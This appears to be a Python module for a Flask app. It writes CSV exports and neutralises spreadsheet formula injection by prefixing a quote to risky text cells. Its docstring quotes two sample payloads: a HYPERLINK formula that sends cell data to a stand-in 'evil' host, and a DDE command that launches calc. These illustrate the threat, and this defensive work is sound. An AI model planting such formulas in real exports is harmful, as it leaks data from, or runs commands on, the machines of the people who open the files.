"""CSV files that spreadsheet programs open without running anything: the one writer of every export.

A spreadsheet runs a cell as a formula when it starts with =, +, - or @ (and some take a
leading tab or carriage return the same way): a producer naming a product
`=HYPERLINK("http://evil/?"&A2,"Xem")` or `=cmd|' /C calc'!A0` would run on the officer's
or organizer's machine. Excel in a locale whose list separator is the semicolon (Vietnamese
Windows among them) splits a line on `;`, quotes or not, so `Bưởi;=cmd|…` starts a new cell
with a formula; so does a line break inside a cell for programs that split lines first.

So every text cell is neutralised: a `'` is put before the cell, and after every `;`, tab
or line break inside it, when what follows (after blanks) starts a formula; spreadsheet
programs show the text as typed. Every field is quoted.

Numbers: values that are int, float or Decimal (never str) are numbers our code produced,
written as they are, negative ones included: `-3` read as a number is not a formula, and
open data must stay numeric. Any str is checked, even one that looks like a number, since
text comes from users. Booleans are written true/false.
"""
import csv
import io
import re
from decimal import Decimal

from flask import Response

FORMULA_START = "=+-@\uff1d\uff0b\uff0d\uff20"  # and their full-width forms, which some programs fold
_RISKY = re.compile(r"(^|[;\t\r\n])(?=[ \t\r\n]*[" + re.escape(FORMULA_START) + r"])|^(?=[\t\r])")


def neutralise(text):
    """`text` with a `'` wherever a spreadsheet would start reading a formula."""
    return _RISKY.sub(lambda match: (match.group(1) or "") + "'", text)


def cell(value):
    """One CSV cell: numbers as numbers, text neutralised, None empty."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        return format(value, ".4f").rstrip("0").rstrip(".")
    if isinstance(value, Decimal):
        return str(value)
    return neutralise(str(value))


def write_csv(header, rows, *, bom=False):
    """RFC 4180 text: every field quoted, CRLF line ends, UTF-8 (a byte-order mark for Excel with `bom`)."""
    buffer = io.StringIO()
    if bom:
        buffer.write("\ufeff")
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow([cell(name) for name in header])
    for row in rows:
        writer.writerow([cell(value) for value in row])
    return buffer.getvalue()


def csv_response(text, filename, *, private=True):
    """A CSV download; `private` files (names, phones) are never cached on the way."""
    response = Response(text, mimetype="text/csv")
    response.headers["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.headers["X-Content-Type-Options"] = "nosniff"
    if private:
        response.headers["Cache-Control"] = "private, no-store"
    return response
